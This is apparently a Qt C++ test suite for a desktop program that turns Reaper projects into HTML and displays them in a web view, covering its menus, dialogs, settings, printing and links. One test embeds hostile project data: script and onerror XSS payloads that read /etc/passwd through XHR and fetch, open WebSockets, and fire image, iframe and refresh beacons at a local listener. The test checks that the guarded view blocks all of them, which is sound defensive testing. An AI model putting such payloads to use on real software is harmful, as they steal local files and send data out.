// The desktop program's real windows driven as a user drives them, and the real
// browser view showing conversions, among them a document someone else wrote.
#include <QAction>
#include <QApplication>
#include <QComboBox>
#include <QDesktopServices>
#include <QDir>
#include <QImage>
#include <QLabel>
#include <QLineEdit>
#include <QMenuBar>
#include <QMimeData>
#include <QDropEvent>
#include <QFileDialog>
#include <QFileInfo>
#include <QMessageBox>
#include <QPrinter>
#include <QProcess>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineScript>
#include <QWebEngineView>
#include <csignal>
#include <optional>

#include "support/fakes.h"
#include "ui/file_picker.h"
#include "ui/frm_main.h"
#include "ui/print_chooser.h"
#include "ui/qt_message_box.h"
#include "ui/session_end.h"
#include "ui/web_engine_setup.h"
#include "ui/window_geometry.h"

namespace sondrel::testing {

// Answers every file dialog with `answer` (empty: the user cancelled) and
// remembers what each dialog was asked to show.
struct FakeFilePicker : FilePicker {
    std::vector<FileDialogRequest> requests;
    QString answer;
    QString PickFile(const FileDialogRequest& asked, QWidget*) override { return requests.push_back(asked), answer; }
};

// The print dialog as a user fills it: printing into a PDF file.
struct FakePrintChooser : PrintChooser {
    QString pdfPath;
    QString proposed;  // the file name the dialog was opened with
    bool ChoosePrinter(QPrinter& printer, QWidget*) override
    {
        proposed = printer.outputFileName();
        return printer.setOutputFileName(pdfPath), true;
    }
};

// One run of the program with fakes for the settings store, the message box and the file and print
// dialogs, in a scratch program folder holding a help page (sondrel.htm) and the default template.
struct UiHarness {
    UiHarness()
    {
        WriteScratchFile("sondrel.htm", "<html><head><title>Sondrel Help</title></head><body>HELP PAGE TEXT</body>");
        const QString templ = "templates/default_template.htm";
        QDir(scratch.path()).mkdir("templates");
        QFile::copy(SONDREL_SOURCE_DIR "/" + templ, ScratchPath(templ));
    }
    // Start-up as the program does it: load, help page, show.
    frmMain& StartMain() { return window = std::make_unique<frmMain>(context), window->Start(), *window; }
    QString ScratchPath(const QString& name) const { return scratch.filePath(name); }
    QString WriteScratchFile(const QString& name, const QByteArray& content) const
    {
        QFile file(ScratchPath(name));
        return file.open(QIODevice::WriteOnly) && file.write(content) == content.size() ? file.fileName() : QString();
    }
    // A setting as an earlier run left it in the store, or as this run stored it.
    std::string& Stored(const char* key) { return store.values[std::string("Sondrel/Settings/") + key]; }
    void Trigger(const char* action) { window->findChild<QAction*>(action)->trigger(); }
    // File > Convert...: the conversion dialog, shown, and its fields.
    frmConvert* OpenConvert() { return Trigger("mnuFileConvert"), window->ConversionDialog(); }
    QLineEdit* Field(const char* name) { return window->ConversionDialog()->findChild<QLineEdit*>(name); }
    static void Click(QObject* dialog, const char* button) { dialog->findChild<QPushButton*>(button)->click(); }
    // File > Convert..., the three fields filled in, OK pressed.
    void ConvertThroughDialog(const QString& project, const QString& output, const QString& templ)
    {
        OpenConvert();
        Field("lbReaperFile")->setText(project);
        Field("lbHTMLFile")->setText(output);
        Field("lbTemplateFile")->setText(templ);
        Click(window->ConversionDialog(), "OKButton");
    }

    QTemporaryDir scratch;
    ProjectModel model;
    Preferences preferences;
    RememberedPaths paths;
    MemorySettingsStore store;
    FixedLocale locale;
    FixedClock clock;
    RecordingUi messages;
    FakeFilePicker files;
    FakePrintChooser printing;
    AppContext context{model,  preferences, paths, store,    locale,
                       clock,  messages,    files, printing, QFile::encodeName(scratch.path()).toStdString()};
    std::unique_ptr<frmMain> window;
};

// The visible text of the page the view shows, trimmed ("" when it cannot be read). Read without script (the view
// runs none), into an answer shared with the callback, which may still arrive after the wait gave up.
inline QString PageText(QWebEngineView& view)
{
    auto answer = std::make_shared<std::optional<QString>>();
    view.page()->toPlainText([answer](const QString& text) { *answer = text; });
    return QTest::qWaitFor([&] { return answer->has_value(); }, 10000) ? answer->value().trimmed() : QString();
}

}  // namespace sondrel::testing

using namespace sondrel;
using namespace sondrel::testing;
using namespace std::string_literals;

namespace {
constexpr int PageTimeout = 30000;

int Px(double twips, const QWidget& widget) { return TwipsToPixels(twips, TwipsPerPixelOf(widget)); }

// "name:text" of each child of one kind, in the order they were made.
template <class Widget>
QString Texts(QObject* parent)
{
    QStringList texts;
    for (Widget* child : parent->findChildren<Widget*>())
        texts << child->objectName() + ":" + child->text();
    return texts.join('|');
}

// What the preferences dialog's separator, date and time lists show, after choosing `choose` when given.
QString Selections(QObject* dialog, const QStringList& choose = {})
{
    QStringList shown;
    for (QComboBox* list : dialog->findChildren<QComboBox*>()) {
        if (!choose.isEmpty())
            list->setCurrentText(choose[shown.size()]);
        shown << list->currentText();
    }
    return shown.join(' ');
}
}  // namespace

class DesktopTest : public QObject {
    Q_OBJECT
    std::unique_ptr<UiHarness> ui;
    QList<QUrl> browserOpened;

public slots:  // stands for the system's browser
    void OpenInSystemBrowser(const QUrl& url) { browserOpened.append(url); }
private slots:
    void init() { ui = std::make_unique<UiHarness>(); }
    void theMainWindowHasItsMenusAndIsPlacedByDefaultOrAsStoredAndStoresItsPlacement()
    {
        frmMain* window = &ui->StartMain();
        QCOMPARE(window->windowTitle(), QStringLiteral("Sondrel"));
        // Each menu, then its items: separators have no caption.
        QCOMPARE(Texts<QAction>(window->menuBar()), ":&File|mnuFileConvert:&Convert...|mnuFilePrint:Print...|mnuBar2:|"
                                                    "mnuFilePrefs:&Preferences|mnuFileBar0:|mnuFileExit:E&xit|:&Help|"
                                                    "mnuHelpContents:Contents|mnuHelpAbout:&About ");
        for (QAction* action : window->findChildren<QAction*>())
            QVERIFY2(action->shortcut().isEmpty(), qPrintable(action->text()));
        const QWidget& w = *window;
        QCOMPARE(TwipsPerPixelOf(w) * w.screen()->logicalDotsPerInch(), 1440.0);
        QCOMPARE(w.frameGeometry(), QRect(Px(1000, w), Px(1000, w), Px(6500, w), Px(6500, w)));
        QTRY_COMPARE_WITH_TIMEOUT(window->Browser()->title(), QStringLiteral("Sondrel Help"), PageTimeout);
        for (const auto& [key, value] :
             {std::pair{"MainLeft", "1500"}, {"MainTop", "750"}, {"MainWidth", "9000"}, {"MainHeight", "7207.5"}})
            ui->Stored(key) = value;  // as an earlier run left them
        const QWidget& v = *(window = &ui->StartMain());
        QCOMPARE(v.frameGeometry(), QRect(Px(1500, v), Px(750, v), Px(9000, v), Px(7207.5, v)));
        // The browser fills the window but for the menu bar and the frame.
        QCOMPARE(window->Browser()->geometry(), QRect(0, 0, Px(9000 - 80, v), Px(7207.5 - 780, v)));
        ui->paths = {"/p.rpp", "/o.htm", "/t.htm"};
        ui->preferences.ListSeparator = "Comma";
        window->move(Px(2000, v), v.pos().y());
        ui->Trigger("mnuFileExit");
        QCOMPARE(ui->store.writtenKeys, std::vector<std::string>({"MainLeft", "MainTop", "MainWidth", "MainHeight",
                                                                  "LastHTMLFile", "LastReaperFile", "LastTemplateFile",
                                                                  "ListSeparator", "DateFormat", "TimeFormat"}));
        QCOMPARE(std::stod(ui->Stored("MainLeft")), Px(2000, v) * TwipsPerPixelOf(v));
        // What the user did not change is stored as loaded, not as its pixels' twips.
        QCOMPARE(ui->Stored("MainTop") + " " + ui->Stored("MainWidth") + " " + ui->Stored("MainHeight"),
                 "750 9000 7207.5"s);
        QCOMPARE(ui->Stored("LastReaperFile") + " " + ui->Stored("ListSeparator"), "/p.rpp Comma"s);
        ui->store = {};  // closing while minimised stores nothing, while maximised its bounds
        ui->StartMain().showMinimized();
        QTRY_VERIFY(ui->window->isMinimized());
        ui->window->close();
        QVERIFY(ui->store.writtenKeys.empty());
        const QWidget& m = ui->StartMain();
        ui->window->showMaximized();
        // A window manager under load may take its time to maximise.
        QTRY_VERIFY_WITH_TIMEOUT(m.isMaximized() && m.frameGeometry().width() > Px(6500, m), 20000);
        const QRect maximised = m.frameGeometry();
        ui->window->close();
        QCOMPARE(std::stod(ui->Stored("MainWidth")), maximised.width() * TwipsPerPixelOf(m));
        QCOMPARE(std::stod(ui->Stored("MainHeight")), maximised.height() * TwipsPerPixelOf(m));
    }

    void theAboutBoxAndClosingTheMainWindowClosesTheOthersLastLoadedFirst()
    {
        const QByteArray path = qgetenv("PATH");
        qputenv("PATH", "/nonexistent");  // no system information program to be found
        frmMain& window = ui->StartMain();
        ui->Trigger("mnuHelpAbout");
        QPointer<frmAbout> about = window.AboutBox();
        QVERIFY(about->isModal());
        QCOMPARE(about->windowTitle(), QStringLiteral("About Sondrel"));
        QCOMPARE(Texts<QLabel>(about), "lblTitle:Sondrel|lblVersion:Version 1.0.6|lblDescription:Sondrel converts "
                                       "Reaper project files into an HTML formatted pages.");
        QCOMPARE(Texts<QPushButton>(about), "cmdOK:OK|cmdSysInfo:&System Info...");
        ui->Click(about, "cmdSysInfo");
        qputenv("PATH", path);
        QCOMPARE(ui->messages.messages.size(), std::size_t{1});
        QCOMPARE(ui->messages.messages[0].title + "|" + ui->messages.messages[0].text,
                 "Sondrel|System Information Is Unavailable At This Time"s);
        QVERIFY(ui->messages.messages[0].buttons == MessageButtons::Ok);
        ui->Click(about, "cmdOK");
        QTRY_VERIFY(about.isNull());
        ui->OpenConvert();
        ui->Field("lbReaperFile")->setText("/would/not/be/converted");
        ui->Trigger("mnuFilePrefs");
        window.PreferencesDialog()->hide();  // hidden windows are loaded all the same
        ui->Trigger("mnuHelpAbout");
        QStringList closed;
        for (QDialog* dialog : window.findChildren<QDialog*>())
            connect(dialog, &QObject::destroyed, this, [&closed, name = dialog->objectName()] { closed << name; });
        window.close();
        QTRY_COMPARE(closed, QStringList({"frmAbout", "frmPreferences", "frmConvert"}));
        QCOMPARE(ui->messages.messages.size(), std::size_t{1});
        QCOMPARE(ui->Stored("LastReaperFile"), ""s);
    }

    void conversionDialogCancelKeepsTheTextsTheCloseBoxDropsThemOkChecksThem()
    {
        ui->Stored("LastReaperFile") = "/old/song.rpp";
        ui->StartMain();
        QPointer<frmConvert> dialog = ui->OpenConvert();
        QVERIFY(dialog->isVisible() && !dialog->isModal());
        QCOMPARE(dialog->windowTitle(), QStringLiteral("Convert Reaper Project"));
        QCOMPARE(Texts<QLabel>(dialog), ":Reaper Project File:|:Output HTML File:|:Conversion Template:");
        QCOMPARE(Texts<QLineEdit>(dialog), "lbReaperFile:/old/song.rpp|lbHTMLFile:|lbTemplateFile:" +
                                               ui->ScratchPath("templates/default_template.htm"));
        QCOMPARE(Texts<QPushButton>(dialog),
                 "cmdReaperFile:...|cmdHTMLFile:...|cmdTemplateFile:...|OKButton:OK|CancelButton:Cancel");
        ui->Field("lbReaperFile")->setText("/new/edited.rpp");
        ui->Click(dialog, "CancelButton");
        QVERIFY(!dialog->isVisible());
        QCOMPARE(ui->OpenConvert(), dialog.data());
        QCOMPARE(ui->Field("lbReaperFile")->text(), QStringLiteral("/new/edited.rpp"));
        dialog->close();  // unloads it: the next opening starts from the remembered paths
        QTRY_VERIFY(dialog.isNull());
        QCOMPARE(ui->OpenConvert()->findChild<QLineEdit*>("lbReaperFile")->text(), QStringLiteral("/old/song.rpp"));
        ui->ConvertThroughDialog("/p.rpp", "", "/t.htm");
        QCOMPARE(ui->messages.messages.size(), std::size_t{1});
        QCOMPARE(ui->messages.messages[0].text, "You must enter all information"s);
        QVERIFY(!ui->window->ConversionDialog()->isVisible());
        QCOMPARE(ui->paths.LastReaperFile, "/old/song.rpp"s);
        QCOMPARE(Texts<QLineEdit>(ui->OpenConvert()), "lbReaperFile:/p.rpp|lbHTMLFile:|lbTemplateFile:/t.htm");
    }

    // Each browse button asks for one file (open or save, title, filter, starting on the field's file); a cancelled
    // dialog leaves the field as it was, a chosen file fills it.
    void conversionDialogBrowseButtonsAskTheFileDialog()
    {
        ui->StartMain();
        ui->OpenConvert();
        for (const auto& [row, asked] : {std::pair{"ReaperFile", "open|Open Reaper Project File|Reaper Files (*.rpp)"},
                 {"HTMLFile", "save|Save as HTML File|HTML Files (*.htm)"}, {"TemplateFile", "open|Open Conversion "
                  "Template File|Template HTML Files (*.htm);;Text Files (*.txt)"}}) {
            QLineEdit* field = ui->Field(("lb"s + row).c_str());
            field->setText("/current");
            for (const QString& answer : {QString(), QStringLiteral("/picked/file name")}) {
                ui->files.requests.clear();
                ui->files.answer = answer;
                ui->Click(ui->OpenConvert(), ("cmd"s + row).c_str());
                QCOMPARE(field->text(), answer.isEmpty() ? QStringLiteral("/current") : answer);
                const FileDialogRequest& request = ui->files.requests.at(0);
                QCOMPARE((request.Kind == FileDialogKind::Save ? "save|" : "open|") + request.Title + "|" +
                             request.Filter + "|" + request.InitialFile, QString(asked) + "|/current");
            }
        }
    }

    // The real file dialogs take a name that does not exist yet, open or save, and leave no configuration of
    // their own behind.
    void theRealFileDialogsTakeANewNameAndWriteNoConfiguration()
    {
        const QString config = qEnvironmentVariable("XDG_CONFIG_HOME");
        for (const FileDialogKind kind : {FileDialogKind::Open, FileDialogKind::Save}) {
            const QString wanted = ui->ScratchPath(kind == FileDialogKind::Open ? "coming.rpp" : "new.htm");
            QTimer::singleShot(0, [&] {
                auto* dialog = qobject_cast<QFileDialog*>(QApplication::activeModalWidget());
                QVERIFY(dialog != nullptr);
                dialog->findChild<QLineEdit*>("fileNameEdit")->setText(QFileInfo(wanted).fileName());
                QTimer::singleShot(1000, dialog, [dialog] {  // a refused name leaves it open, maybe with a message
                    if (auto* message = dialog->findChild<QMessageBox*>())
                        message->close();
                    dialog->reject();
                });
                QTest::keyClick(dialog->findChild<QLineEdit*>("fileNameEdit"), Qt::Key_Return);
            });
            QtFilePicker picker;
            QCOMPARE(picker.PickFile({kind, "Pick", ui->ScratchPath("none.rpp"), "Reaper Files (*.rpp)"}, nullptr),
                     wanted);
            QVERIFY(!QFileInfo::exists(wanted));
        }
        QVERIFY(!QFileInfo::exists(config + "/QtProject.conf"));
    }

    // The conversion dialog's client area, not its frame, stands at its place; under a window manager the two
    // differ (the test runs under one in CI as well as offscreen).
    void theConversionDialogsClientAreaStandsAtItsPlace()
    {
        ui->StartMain();
        frmConvert* dialog = ui->OpenConvert();
        QTRY_VERIFY(dialog->isVisible());
        if (QGuiApplication::platformName() != QStringLiteral("offscreen"))  // framed by the window manager
            QTRY_VERIFY(dialog->frameGeometry().topLeft() != dialog->geometry().topLeft());
        QTest::qWait(200);
        QCOMPARE(dialog->geometry().topLeft(), QPoint(Px(2760, *dialog), Px(3750, *dialog)));
    }

    // SIGTERM ends the program as File > Exit does: the windows close and the placement is saved.
    void aTermSignalClosesAsExitAndSavesTheSettings()
    {
        frmMain& window = ui->StartMain();
        const SessionEnd sessionEnd(window);
        ui->OpenConvert();
        ui->Stored("MainLeft").clear();
        ::raise(SIGTERM);
        QTRY_VERIFY(!window.isVisible());
        QVERIFY(ui->window->ConversionDialog() == nullptr || !ui->window->ConversionDialog()->isVisible());
        QVERIFY(!ui->Stored("MainLeft").empty());
    }

    // The view's own menu copies and prints; nothing in it leaves the document.
    void theViewsMenuOnlyCopiesSelectsAndPrints()
    {
        QWebEngineView& view = *ui->StartMain().Browser();
        QCOMPARE(view.contextMenuPolicy(), Qt::ActionsContextMenu);
        QStringList items;
        for (const QAction* action : view.actions())
            items << (action->isSeparator() ? "|" : action->text());
        QCOMPARE(items, (QStringList{view.pageAction(QWebEnginePage::Copy)->text(),
                                     view.pageAction(QWebEnginePage::SelectAll)->text(), "|", "Print..."}));
        QSignalSpy finished(ui->window.get(), &frmMain::PrintingFinished);
        ui->printing.pdfPath = ui->ScratchPath("from-menu.pdf");
        view.actions().last()->trigger();
        QVERIFY(finished.wait(PageTimeout));
        QVERIFY(QFileInfo(ui->printing.pdfPath).size() > 0);
    }

    void preferencesOfferTheChoicesOkTakesThemAndCancelDoesNot()
    {
        ui->Stored("ListSeparator") = "Semicolon";  // a stored text that is none of the items
        ui->StartMain();
        ui->Trigger("mnuFilePrefs");
        QPointer<frmPreferences> dialog = ui->window->PreferencesDialog();
        QVERIFY(dialog->isVisible() && dialog->isModal());
        QCOMPARE(dialog->windowTitle(), QStringLiteral("Preferences"));
        QCOMPARE(Texts<QLabel>(dialog), "Label1:List Seperator:|Label2:Date Format:|Label3:Time Format:");
        QStringList items;  // in pick-only lists
        for (QComboBox* list : dialog->findChildren<QComboBox*>()) {
            for (int item = 0; item < list->count(); ++item)
                items << list->itemText(item);
            items << (list->isEditable() ? "editable" : "|");
        }
        QCOMPARE(items.join(' '), "<BR> Space Comma Tab | Short Long | Short Long |");
        QCOMPARE(Selections(dialog), QStringLiteral("<BR> Short Short"));
        Selections(dialog, {"Space", "Long", "Long"});
        ui->Click(dialog, "CancelButton");
        QVERIFY(!dialog->isVisible());
        QCOMPARE(ui->preferences.ListSeparator + " " + ui->preferences.DateFormat, "Semicolon Short"s);
        ui->Trigger("mnuFilePrefs");  // the same dialog, showing what was chosen
        QCOMPARE(Selections(ui->window->PreferencesDialog()), QStringLiteral("Space Long Long"));
        Selections(dialog, {"Tab", "Short", "Long"});
        ui->Click(dialog, "OKButton");
        QVERIFY(!dialog.isNull() && !dialog->isVisible());
        QCOMPARE(ui->preferences.ListSeparator + " " + ui->preferences.DateFormat + " " + ui->preferences.TimeFormat,
                 "Tab Short Long"s);
        QVERIFY(ui->store.writtenKeys.empty());  // stored on exit
    }

    // Neither dialog has a default or cancel button for Return or Escape; Defaults only fills the lists in. A project file
    // dropped on the main window opens the conversion dialog with it.
    void dialogsIgnoreReturnAndEscapeDefaultsFillTheListsAndADroppedProjectIsTaken()
    {
        ui->StartMain();
        ui->Trigger("mnuFilePrefs");
        for (QDialog* dialog : {static_cast<QDialog*>(ui->OpenConvert()), static_cast<QDialog*>(ui->window->PreferencesDialog())})
            for (const Qt::Key key : {Qt::Key_Return, Qt::Key_Enter, Qt::Key_Escape}) {
                dialog->show();  // a field has the focus: Return presses only a focused button
                QWidget* field = dialog->findChild<QLineEdit*>();
                (field ? field : dialog->findChild<QComboBox*>())->setFocus();
                QTest::keyClick(dialog, key);
                QVERIFY2(dialog->isVisible(), qPrintable(dialog->objectName()));
            }
        QVERIFY(ui->messages.messages.empty());
        QObject* preferences = ui->window->PreferencesDialog();
        Selections(preferences, {"Tab", "Long", "Long"});
        ui->Click(preferences, "cmdDefaults");
        QCOMPARE(Selections(preferences), QStringLiteral("<BR> Short Short"));
        QCOMPARE(ui->preferences.ListSeparator, "<BR>"s);
        ui->Click(preferences, "CancelButton");
        QMimeData dropped;
        dropped.setUrls({QUrl::fromLocalFile("/songs/notes.txt"), QUrl::fromLocalFile("/songs/Dropped.RPP")});
        QDragEnterEvent enter(QPoint(20, 20), Qt::CopyAction, &dropped, Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(ui->window.get(), &enter);
        QVERIFY(enter.isAccepted());
        QDropEvent drop(QPointF(20, 20), Qt::CopyAction, &dropped, Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(ui->window.get(), &drop);
        QTRY_VERIFY(ui->window->ConversionDialog() != nullptr && ui->window->ConversionDialog()->isVisible());
        QCOMPARE(ui->Field("lbReaperFile")->text(), QStringLiteral("/songs/Dropped.RPP"));
    }

    void theMessageBoxHasNoIconAndOkAsDefault_data()
    {
        QTest::addColumn<QString>("way");  // how the user answers a box with Cancel; "alone": OK on one without
        for (const char* way : {"alone", "Cancel", "close", "Escape", "Return"})
            QTest::newRow(way) << QString(way);
    }

    void theMessageBoxHasNoIconAndOkAsDefault()
    {
        QFETCH(QString, way);
        const bool withCancel = way != "alone";
        const QString title = withCancel ? "Overwrite file?" : "";  // none: the program's name
        const QString text = "The file x already exists.  Do you want to overwrite it?";
        QTimer::singleShot(0, this, [&] {  // runs once the box is up: answers first, so that a failure cannot hang
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            QVERIFY(box != nullptr);
            if (way == "close")
                box->close();
            else if (way.startsWith("Re") || way.startsWith("Es"))
                QTest::keyClick(box, way == "Return" ? Qt::Key_Return : Qt::Key_Escape);
            else
                box->button(withCancel ? QMessageBox::Cancel : QMessageBox::Ok)->click();
            QCOMPARE(box->windowTitle() + "|" + box->text(), (withCancel ? title : "Sondrel") + "|" + text);
            QVERIFY(box->icon() == QMessageBox::NoIcon && box->buttons().size() == (withCancel ? 2 : 1));
            QCOMPARE(box->defaultButton(), box->button(QMessageBox::Ok));
        });
        const auto buttons = withCancel ? MessageButtons::OkCancel : MessageButtons::Ok;
        const MessageAnswer given = QtMessageBox().ShowMessage(text.toStdString(), buttons, title.toStdString());
        QCOMPARE(given == MessageAnswer::Ok, way == "alone" || way == "Return");
    }

    // The output is shown as HTML whatever its name, and printed; "Contents"
    // shows the help again; refusing to overwrite keeps the file and the view.
    void aConversionIsShownAndPrintedAndARefusedOverwriteKeepsFileAndView()
    {
        QWebEngineView& view = *ui->StartMain().Browser();
        const QString project =
            ui->WriteScratchFile("song.rpp", "<REAPER_PROJECT 0.1\n  <TRACK\n    NAME \"<Lead Vocal>\"\n  >\n>\n");
        const QString output = ui->ScratchPath("document");
        const QString templ = ui->WriteScratchFile(
            "t.htm", "<!-- SONDREL: ESCAPE-HTML --><html><head><title>Named plainly</title></head><body>"
                     "<!-- TRACK-START -->FIRST <b>##TRACK-NAME##</b><!-- TRACK-END --></body></html>");
        ui->ConvertThroughDialog(project, output, templ);
        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("Named plainly"), PageTimeout);
        QTRY_COMPARE_WITH_TIMEOUT(PageText(view), QStringLiteral("FIRST <Lead Vocal>"), PageTimeout);
        QSignalSpy finished(ui->window.get(), &frmMain::PrintingFinished);
        ui->printing.pdfPath = ui->ScratchPath("printed.pdf");
        ui->Trigger("mnuFilePrint");
        QVERIFY(finished.wait(PageTimeout));
        QCOMPARE(finished, QList<QVariantList>{{true}});
        QCOMPARE(ui->printing.proposed, output + ".pdf");  // beside the output, named after it
        QProcess pdfToText;  // printing into a file keeps the page's text as text
        pdfToText.start("pdftotext", {ui->printing.pdfPath, "-"});
        QVERIFY(pdfToText.waitForFinished(PageTimeout));
        QCOMPARE(pdfToText.readAllStandardOutput().trimmed(), QByteArray("FIRST <Lead Vocal>"));
        ui->Trigger("mnuHelpContents");
        QTRY_COMPARE_WITH_TIMEOUT(PageText(view), QStringLiteral("HELP PAGE TEXT"), PageTimeout);
        ui->WriteScratchFile("t.htm", "<html><body>SECOND VERSION</body></html>");
        ui->messages.answers = {MessageAnswer::Cancel};
        ui->ConvertThroughDialog(project, output, templ);
        QCOMPARE(ui->messages.messages.size(), std::size_t{1});
        QCOMPARE(QString::fromStdString(ui->messages.messages[0].title + "|" + ui->messages.messages[0].text),
                 "Overwrite file?|The file " + output + " already exists.  Do you want to overwrite it?");
        QVERIFY(ui->messages.messages[0].buttons == MessageButtons::OkCancel);
        QTest::qWait(500);
        QCOMPARE(view.url(), QUrl::fromLocalFile(ui->ScratchPath("sondrel.htm")));
        QCOMPARE(PageText(view), QStringLiteral("HELP PAGE TEXT"));
        ui->window->ShowInBrowser(output.toStdString());  // the file as it was
        QTRY_COMPARE_WITH_TIMEOUT(PageText(view), QStringLiteral("FIRST <Lead Vocal>"), PageTimeout);
        ui->ConvertThroughDialog(project, output, templ);  // answered OK: the page shown is read afresh
        QTRY_COMPARE_WITH_TIMEOUT(PageText(view), QStringLiteral("SECOND VERSION"), PageTimeout);
    }

    void aHostileProjectRunsNothingAndReachesNothing()
    {
        QTcpServer listener;
        QVERIFY(listener.listen(QHostAddress::LocalHost));
        QSignalSpy connections(&listener, &QTcpServer::newConnection);
        QWebEngineView& view = *ui->StartMain().Browser();
        // Everything a page could use to call out to the listener: script, an onerror handler,
        // WebSocket, XHR and fetch of local files, an image, a style sheet, a frame and a refresh.
        const QString project = ui->WriteScratchFile("hostile.rpp", QByteArray(
            "<REAPER_PROJECT 0.1\n  <NOTES 0 2\n    |<script>document.title='SCRIPT RAN';"
            "new WebSocket('ws://TO/notes');var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);"
            "x.send();fetch('file:///etc/').then(r=>r.text()).then(t=>new WebSocket('ws://TO/'+t.length));</script>\n"
            "    |<img src='http://TO/pixel.png'><link rel=stylesheet href='http://TO/s.css'>\n"
            "    |<iframe src='http://TO/frame'></iframe><meta http-equiv=refresh content='0;url=http://TO/refresh'>\n"
            "  >\n  <TRACK\n    NAME \"<img src=x onerror='document.title=`ONERROR RAN`;new WebSocket(`ws://TO/name`)'>"
            "\"\n  >\n>\n")
            .replace("TO", "127.0.0.1:" + QByteArray::number(listener.serverPort())));
        const QString templ = ui->WriteScratchFile("raw.htm", "<html><head><title>Hostile</title></head><body>"
                                                              "##NOTES##<!-- TRACK-START --><p>##TRACK-NAME##</p>"
                                                              "<!-- TRACK-END --></body></html>");
        const QString output = ui->ScratchPath("hostile.htm");
        ui->ConvertThroughDialog(project, output, templ);
        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("Hostile"), PageTimeout);
        QTest::qWait(2000);
        QCOMPARE(connections.count(), 0);
        QCOMPARE(view.title(), QStringLiteral("Hostile"));
        QCOMPARE(view.url(), QUrl::fromLocalFile(output));
        // The same page in a view without the guards does call out.
        QWebEngineProfile plainProfile;
        QWebEngineView plain;
        plain.setPage(new QWebEnginePage(&plainProfile, &plain));
        plain.load(QUrl::fromLocalFile(output));
        QTRY_VERIFY_WITH_TIMEOUT(connections.count() > 0, PageTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(plain.title().endsWith(QStringLiteral(" RAN")), PageTimeout);
    }

    // A logo beside the document is drawn. A click on a link to a web page hands
    // it to the system's browser and leaves the document in the view; a link
    // within the page still moves.
    void aLocalImageIsDrawnAndLinksLeaveTheViewOnTheDocument()
    {
        QDesktopServices::setUrlHandler("http", this, "OpenInSystemBrowser");
        QWebEngineView& view = *ui->StartMain().Browser();
        QImage logo(7, 5, QImage::Format_RGB32);
        logo.fill(Qt::red);
        QVERIFY(logo.save(ui->ScratchPath("logo.png")));
        const QString page = ui->WriteScratchFile(
            "links.htm", "<html><body style='margin:0'><a href='#end' style='display:block;height:40px'>within</a>"
                         "<a href='http://127.0.0.1:9/elsewhere' style='display:block;height:40px'>away</a>"
                         "<img src='logo.png'><div style='height:3000px'></div><p id='end'>end</p></body></html>");
        ui->window->ShowInBrowser(page.toStdString());
        int width = -1;  // read by a script of the program's own: the page's own never run
        const auto storeWidth = [&width](const QVariant& value) { width = value.toInt(); };
        const QString script = "document.images.length ? document.images[0].naturalWidth : -1";
        QTRY_VERIFY_WITH_TIMEOUT((view.page()->runJavaScript(script, QWebEngineScript::ApplicationWorld, storeWidth),
                                  QTest::qWaitFor([&] { return width == 7; }, 200)), PageTimeout);
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(10, 60));
        QTRY_COMPARE_WITH_TIMEOUT(browserOpened, QList<QUrl>{QUrl("http://127.0.0.1:9/elsewhere")}, PageTimeout);
        QCOMPARE(view.url(), QUrl::fromLocalFile(page));
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(10, 20));
        QTRY_COMPARE_WITH_TIMEOUT(view.url().fragment(), QStringLiteral("end"), PageTimeout);
        QDesktopServices::unsetUrlHandler("http");
    }
};

int main(int argc, char** argv)
{
    // Before QApplication: private HOME and XDG folders (made for the owner alone, as XDG_RUNTIME_DIR must be),
    // the offscreen platform unless a display was chosen, and the browser engine's flags.
    QTemporaryDir privateFolder;
    for (const char* variable : {"HOME", "XDG_CONFIG_HOME", "XDG_RUNTIME_DIR"})
        qputenv(variable, QFile::encodeName(privateFolder.path()));
    if (qEnvironmentVariableIsEmpty("QT_QPA_PLATFORM"))
        qputenv("QT_QPA_PLATFORM", "offscreen");
    PrepareWebEngineEnvironment();
    QApplication application(argc, argv);
    DesktopTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "desktop_test.moc"
